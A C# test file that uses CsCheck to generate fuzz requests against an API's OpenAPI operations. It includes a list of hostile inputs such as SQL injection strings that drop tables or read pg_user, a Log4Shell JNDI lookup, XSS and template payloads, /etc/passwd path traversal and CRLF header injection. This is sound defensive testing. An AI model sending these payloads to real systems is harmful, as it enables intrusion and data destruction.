using CsCheck;

namespace Ethoscope.Tests.Testing;

/// <summary>
/// Requests made from the OpenAPI document: each operation with parameters that are valid, hostile or random, other methods, headers, bodies
/// and paths.
/// </summary>
internal static class FuzzRequests
{
    private static readonly string[] Hostile =
    [
        "'",
        "''; DROP TABLE blocks; --",
        "1 OR 1=1",
        "1'; SELECT pg_sleep(9); --",
        "\" OR \"\"=\"",
        "1) UNION SELECT usename FROM pg_user --",
        "$$; COPY blocks TO '/tmp/x'; $$",
        "\\'; VACUUM",
        "%' ESCAPE '\\",
        "{0}",
        "${jndi:ldap://x.test/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "..\\..\\web.config",
        "\0",
        "a\0b",
        "\r\nSet-Cookie: a=b",
        "\u202e\u2066ethereum",
        "ｅｔｈｅｒｅｕｍ",
        "ethereum\u0300",
        "ETHEREUM",
        " ethereum ",
        "İ",
        "\ud83d\ude00\ud800",
        "null",
        "undefined",
        "NaN",
        "Infinity",
        "-Infinity",
        "true",
        "[]",
        "{}",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
        "",
        " ",
        "0",
        "-0",
        "-1",
        "+1",
        "01",
        "1e9",
        "1E+400",
        "0x10",
        "1.0",
        "1,5",
        "１２",
        "٣",
        "2147483647",
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775808",
        "79228162514264337593543950336",
        "115792089237316195423570985008687907853269984665640564039457584007913129639936",
        "0001-01-01",
        "1969-12-31T23:59:59Z",
        "1970-01-01",
        "2199-12-31T23:59:59.9999999Z",
        "2200-01-01",
        "9999-12-31T23:59:59.9999999Z",
        "2026-01-31T20:00:00+14:00",
        "2026-01-31T20:00:00-23:59",
        "2026-01-31T24:00:00Z",
        "2026-02-30",
        "2026-01-31T20:00:60Z",
        "20260131",
        "now",
        "0s",
        "1s",
        "9999999999d",
        "1h1h",
        "99,95,90,80,70,99",
        "json,csv",
        "text/csv",
        "csv\0",
        "MS9ibG9ja3MvZXRoZXJldW0vOTIyMzM3MjAzNjg1NDc3NTgwNw",
        "MS9yZW9yZ2FuaXNhdGlvbnMvZXRoZXJldW0vOTIyMzM3MjAzNjg1NDc3NTgwNy85MjIzMzcyMDM2ODU0Nzc1ODA3",
        "MS9ibG9ja3MvZXRoZXJldW0vLTE",
        "____",
        "0x" + new string('0', 64),
        "0x" + new string('f', 64),
        "0X" + new string('A', 64),
    ];

    private static readonly string[] Names =
    [
        "chain",
        "limit",
        "from",
        "to",
        "at",
        "offset",
        "sort",
        "q",
        "__proto__",
        "from[]",
        "from[$gt]",
        "LIMIT",
        "limit ",
        "api_key",
        "token",
        "'",
        "a\0",
        "",
    ];

    private static readonly string[] Methods =
    [
        "HEAD",
        "POST",
        "PUT",
        "PATCH",
        "DELETE",
        "OPTIONS",
        "TRACE",
        "PROPFIND",
        "BREW",
        "get",
        new('X', 200),
    ];

    private static readonly (string Name, string[] Values)[] Headers =
    [
        ("Accept", ["text/csv", "application/x-ndjson", "application/xml", "*/*;q=0", "text/csv;q=NaN", "garbage", ",,,", "a/b;c=\"\\"]),
        ("Accept-Encoding", ["gzip", "br", "identity;q=0", "bogus", "gzip;q=2"]),
        ("Accept-Language", ["de", "xx-'", "*;q=9"]),
        ("If-None-Match", ["*", "W/\"", "\"a\"", "a, b", "W/\"5f0c9d1e7a3b4c2d8e6f0a1b\""]),
        ("If-Modified-Since", ["never", "Thu, 01 Jan 1970 00:00:00 GMT"]),
        ("Range", ["bytes=0-1", "bytes=9-1", "rows=*"]),
        ("Content-Type", ["application/json", "text/xml", "multipart/form-data; boundary=x", "/"]),
        ("Cookie", ["a=b", "ethoscope=CfDJ8'; --", "=;=;"]),
        ("X-Forwarded-For", ["127.0.0.1", "'", "::1, 10.0.0.1"]),
        ("X-HTTP-Method-Override", ["DELETE", "'"]),
        ("Origin", ["null", "https://x.test"]),
        ("traceparent", ["00-0-0-0", "x"]),
        ("X-API-Key", ["eth_test_AAAABBBBCCCCDDDD", "' OR 1=1 --", "ü"]),
        ("Authorization", ["Bearer", "Bearer '; DROP TABLE api_keys; --", "Basic YTpi", "bearer a b"]),
    ];

    private static readonly Gen<string> Text = Gen.Frequency(
        (12, Gen.OneOf(Hostile)),
        (3, Gen.String[0, 24]),
        (2, Gen.Long.Select(number => $"{number}")),
        (2, Gen.Int[0, 2_000].Select(number => $"{number}")),
        (2, Gen.DateTimeOffset.Select(at => $"{at:yyyy-MM-dd'T'HH:mm:ss.FFFFFFFK}")),
        (1, Gen.Select(Gen.OneOf("a", "9", "0x", "'", ",", "%"), Gen.Int[100, 10_000]).Select((part, length) => Long(part, length)))
    );

    /// <param name="share">Of a hundred requests, how many carry headers, bodies and other paths than the document's.</param>
    public static Gen<FuzzRequest> Of(ApiContract contract, int share = 15)
    {
        var operations = contract.Operations.Where(operation => operation.Method == "get" && !operation.IsStream).ToArray();
        var often = Gen.Int[1, 100].Select(chance => chance <= share);
        return from operation in Gen.OneOf(operations)
            from method in Gen.Frequency((9, Gen.Const("GET")), (1, Gen.OneOf(Methods)))
            from id in Gen.Frequency((1, Gen.Const("24300000")), (2, Gen.Select(Text, Encoding).Select((text, encode) => encode(text))))
            from query in QueryOf(operation)
            from isOdd in often
            from odd in Gen.OneOf(Odd)
            from headers in HeaderOf.Array[0, 2]
            from hasHeaders in often
            from hasBody in often
            from body in Text
            let path = InPath.Aggregate(operation.Path, (path, name) => path.Replace(name, id, StringComparison.Ordinal))
            select new FuzzRequest(
                method,
                (isOdd ? odd(path) : path) + query,
                isOdd || !IsOneSegment(operation, id) ? null : operation,
                hasHeaders ? headers : [],
                hasBody ? body : null
            );
    }

    private static Gen<string> QueryOf(ApiOperation operation)
    {
        var known = operation.Parameters.Where(one => (string?)one["in"] == "query").ToArray();
        var valid = known.Length == 0 ? Gen.Const("x=1") : Gen.OneOf(known).Select(one => $"{one["name"]}={ApiOperation.Example(one)}");
        var names = known.Length == 0 ? Gen.OneOf(Names).Select(Escaped) : Gen.OneOf([.. known.Select(one => (string)one["name"]!)]);
        var hostile = Gen.Select(names, Text, Encoding).Select((name, text, encode) => $"{name}={encode(text)}");
        var stranger = Gen.Select(Gen.OneOf(Names), Text, Encoding).Select((name, text, encode) => $"{encode(name)}={encode(text)}");
        var part = Gen.Frequency(
            (5, valid),
            (5, hostile),
            (1, stranger),
            (1, Gen.OneOf<string>("&", "=", "a", "?", "%", "%zz", "limit", ";"))
        );
        return part.Array[0, 5]
            .Select(parts => parts.Length == 0 ? "" : "?" + string.Join('&', parts.DistinctBy(one => one.Split('=')[0] + one.Length)));
    }

    private static readonly Gen<Func<string, string>> Encoding = Gen.OneOf<Func<string, string>>(
        Escaped,
        Escaped,
        Escaped,
        text => Escaped(Escaped(text)),
        text => Escaped(text).ToLowerInvariant(),
        text => new string([.. text.Select(one => one is > ' ' and < '\u007f' and not '#' ? one : '+')])
    );

    private static readonly Gen<(string, string)> HeaderOf = Gen.OneOf([
        .. Headers.SelectMany(header => header.Values.Append(new string('z', 4_000)).Select(value => (header.Name, value))),
    ]);

    private static readonly Func<string, string>[] Odd =
    [
        path => path + "/..",
        path => path + "/../status",
        path => path + "/%2e%2e/%2e%2e",
        path => path + "/%2e%2e%2f",
        path => path + "%00",
        path => path + "/%00",
        path => path + "/%c0%ae",
        path => path + "/%ff%fe",
        path => path + ";a=b",
        path => path + "//",
        path => path + "/",
        path => path + "%20",
        path => path + "/" + new string('a', 2_000),
        path => path + string.Concat(Enumerable.Repeat("/a", 300)),
        path => path.ToUpperInvariant(),
        path => "//" + path,
        path => "/." + path,
        path => path.Replace("/v1", "/v1/v1", StringComparison.Ordinal),
        path => path.Replace("/v1", "/v2", StringComparison.Ordinal),
        path => path.Replace("api", "%61pi", StringComparison.Ordinal),
        path => path + ".json",
        path => path + "'",
        _ => "/api",
        _ => "/api/v1/metrics/blocks/../../../../etc/passwd",
        _ => "/api/v1/%",
        _ => "/api/v1/nothing/'%20OR%201=1",
    ];

    private static readonly string[] InPath = ["{id}", "{slot}", "{epoch}", "{network}", "{operation}", "{anomaly}", "{incident}"];

    private static bool IsOneSegment(ApiOperation operation, string id) =>
        !InPath.Any(name => operation.Path.Contains(name, StringComparison.Ordinal))
        || (id.Length > 0 && id.All(one => char.IsAsciiLetterOrDigit(one)) && id.Length < 4_000);

    /// <summary>Also of text that is no valid UTF-16.</summary>
    private static string Escaped(string text) => string.Concat(System.Text.Encoding.UTF8.GetBytes(text).Select(Escaped));

    private static string Escaped(byte one) => char.IsAsciiLetterOrDigit((char)one) ? $"{(char)one}" : $"%{one:X2}";

    private static string Long(string part, int length) => string.Concat(Enumerable.Repeat(part, length / part.Length));
}
